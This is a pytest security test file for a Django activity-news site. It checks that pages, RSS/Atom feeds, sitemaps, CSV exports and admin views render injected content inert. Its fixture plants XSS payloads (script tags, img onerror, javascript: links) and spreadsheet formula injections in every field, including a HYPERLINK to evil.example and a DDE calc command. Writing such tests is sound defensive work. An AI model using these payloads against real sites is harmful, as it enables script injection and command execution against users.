"""Script payloads in every text field of a published post come out inert in every output.

OUTPUTS is the list of places the text is shown: one line each, (name, kind, url-maker).
`kind` chooses the check: html/admin (no live markup), feed and xml (well-formed, inert
descriptions), csv (no formulas).
Staff pages, e-mails and report exports join the table when they exist.
"""

import csv
import io
import re
import xml.etree.ElementTree as ET

import feedparser
import pytest
from django.contrib import admin
from django.contrib.auth import get_user_model

from activities.models import Activity, ActivityType
from agencies.models import Agency, Province
from tests.factories import make_activity, make_photo

pytestmark = pytest.mark.django_db


def hostile(label):
    return f'{label}<script>alert("{label}")</script>"><img src=x onerror=alert("{label}")>'


FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
LIVE_MARKUP = [
    re.compile(r"<script>alert", re.I),
    re.compile(r"<img src=x", re.I),
    re.compile(r"""href\s*=\s*["']?\s*(javascript|data|vbscript):""", re.I),
]


@pytest.fixture
def post():
    agency = Agency.objects.get(slug="peo-chiang-mai")
    agency.name, agency.name_en = hostile("agency-name"), hostile("agency-name-en")
    agency.abbreviation = 'abbr"><img src=x onerror=alert(1)>'  # 40 characters at most
    agency.website = "javascript:alert('website')"
    agency.save()
    partner = Agency.objects.exclude(pk=agency.pk).filter(is_active=True).first()
    partner.name = hostile("partner-name")
    partner.save()
    kind = ActivityType.objects.get(slug="development")
    kind.name, kind.name_en = FORMULA, hostile("type-en")
    kind.save()
    province = Province.objects.get(slug="chiang-mai")
    province.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    province.save()
    activity = make_activity(
        agency,
        status="published",
        title=hostile("title"),
        venue=hostile("venue"),
        body=(
            f"{hostile('body')}\n\n"
            "javascript:alert('body-link') และ <a href=\"javascript:alert(1)\">คลิก</a>\n\n"
            "- [ลิงก์](javascript:alert('md'))\n- data:text/html;base64,PHNjcmlwdD4="
        ),
        news_credit=hostile("news-credit"),
        photo_credit=hostile("photo-credit"),
        tags=f"{hostile('tag')}, ปลูกป่า",
        activity_type=kind,
        province=province,
        is_featured=True,
    )
    activity.partners.add(partner)
    make_photo(activity, is_cover=True, caption=hostile("caption"), alt_text=hostile("alt"))
    make_photo(activity, order=1, caption=hostile("caption-2"), alt_text=hostile("alt-2"))
    return activity


@pytest.fixture
def coordinator_client(client):
    user = get_user_model().objects.create_superuser("root", "root@example.com", "x")
    client.force_login(user)
    return client


def _admin_change(model):
    def url(post):
        if not admin.site.is_registered(model):
            pytest.skip(f"{model.__name__} is not in the admin on this branch yet")
        obj = post if model is Activity else post.agency
        return f"/admin/{model._meta.app_label}/{model._meta.model_name}/{obj.pk}/change/"

    return url


def _admin_changelist(model, query=""):
    def url(post):
        if not admin.site.is_registered(model):
            pytest.skip(f"{model.__name__} is not in the admin on this branch yet")
        return f"/admin/{model._meta.app_label}/{model._meta.model_name}/{query}"

    return url


PAYLOAD_Q = "?q=" + "%3Cscript%3Ealert(1)%3C/script%3E%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"
OUTPUTS = [
    ("detail page", "html", lambda p: p.get_absolute_url()),
    ("detail page (English)", "html", lambda p: "/en" + p.get_absolute_url()),
    ("home", "html", lambda p: "/"),
    ("feed", "html", lambda p: "/activities/"),
    ("search", "html", lambda p: "/activities/" + PAYLOAD_Q),
    ("agency page", "html", lambda p: p.agency.get_absolute_url()),
    ("agency directory search", "html", lambda p: "/agencies/" + PAYLOAD_Q),
    ("partner agency page", "html", lambda p: p.partners.first().get_absolute_url()),
    ("statistics", "html", lambda p: "/stats/?year=2569"),
    ("site map page", "html", lambda p: "/site-map/"),
    ("RSS", "feed", lambda p: "/feed/"),
    ("Atom", "feed", lambda p: "/feed/atom/"),
    ("agency RSS", "feed", lambda p: f"{p.agency.get_absolute_url()}feed/"),
    ("agency Atom", "feed", lambda p: f"{p.agency.get_absolute_url()}feed/atom/"),
    ("type RSS", "feed", lambda p: "/feed/types/development/"),
    ("sitemap activities", "xml", lambda p: "/sitemap-activities.xml"),
    ("sitemap agencies", "xml", lambda p: "/sitemap-agencies.xml"),
    ("stats CSV by type", "csv", lambda p: "/stats/types.csv?year=2569"),
    ("stats CSV by province", "csv", lambda p: "/stats/provinces.csv?year=2569"),
    ("admin activity list", "admin", _admin_changelist(Activity)),
    ("admin activity search", "admin", _admin_changelist(Activity, PAYLOAD_Q)),
    ("admin activity", "admin", _admin_change(Activity)),
    ("admin agency list", "admin", _admin_changelist(Agency)),
    ("admin agency search", "admin", _admin_changelist(Agency, PAYLOAD_Q)),
    ("admin agency", "admin", _admin_change(Agency)),
]


def check_html(text):
    found = [pattern.pattern for pattern in LIVE_MARKUP if pattern.search(text)]
    # JSON-LD is a <script> element: its text must never be able to close it.
    for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', text, re.S):
        if "<" in block:
            found.append("raw < inside JSON-LD")
    return found


def check_xml(text):
    root = ET.fromstring(text.encode())  # well-formed
    found = ["raw <script> in the XML"] if "<script" in text.lower() else []
    # Descriptions and summaries are HTML to feed readers: after one level of XML they must
    # still be inert text.
    for element in root.iter():
        if element.tag.split("}")[-1] in ("description", "summary", "content", "subtitle"):
            found += [f"{element.tag}: {p}" for p in check_html(element.text or "")]
    return found


def check_feed(text):
    parsed = feedparser.parse(text)
    return check_xml(text) + ([f"not a valid feed: {parsed.bozo_exception}"] if parsed.bozo else [])


def check_csv(text):
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    return [
        f"formula cell {cell!r}"
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


CHECKS = {
    "html": check_html,
    "admin": check_html,
    "xml": check_xml,
    "feed": check_feed,
    "csv": check_csv,
}


@pytest.mark.parametrize(("name", "kind", "url"), OUTPUTS)
def test_payloads_render_inert(client, coordinator_client, post, name, kind, url):
    response = (coordinator_client if kind == "admin" else client).get(url(post))
    assert response.status_code == 200, name
    text = response.content.decode()
    assert not CHECKS[kind](text), (name, CHECKS[kind](text))


def test_the_payloads_are_really_shown(client, post):
    """Guards the test itself: the escaped forms are on the page, so the checks saw them."""
    text = client.get(post.get_absolute_url()).content.decode()
    for label in ("title", "venue", "body", "news-credit", "photo-credit", "tag", "caption"):
        assert f"{label}&lt;script&gt;alert(" in text, label
    assert "alt&lt;script&gt;" in text or "alt&lt;script&gt;" in text.replace("&quot;", '"')
    assert "agency-name&lt;script&gt;" in text


def test_body_links_to_javascript_are_not_clickable(client, post):
    text = client.get(post.get_absolute_url()).content.decode()
    story = text.split('class="activity-story prose">', 1)[1].split("</div>", 1)[0]
    assert "javascript:alert(&#x27;body-link&#x27;)" in story or "javascript:alert(" in story
    assert not re.search(r"<a [^>]*href=\"(?!https?://)", story)


def test_json_ld_cannot_close_its_script_element(client, post):
    text = client.get(post.get_absolute_url()).content.decode()
    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', text, re.S).group(1)
    assert "\\u003C/script\\u003E" in block
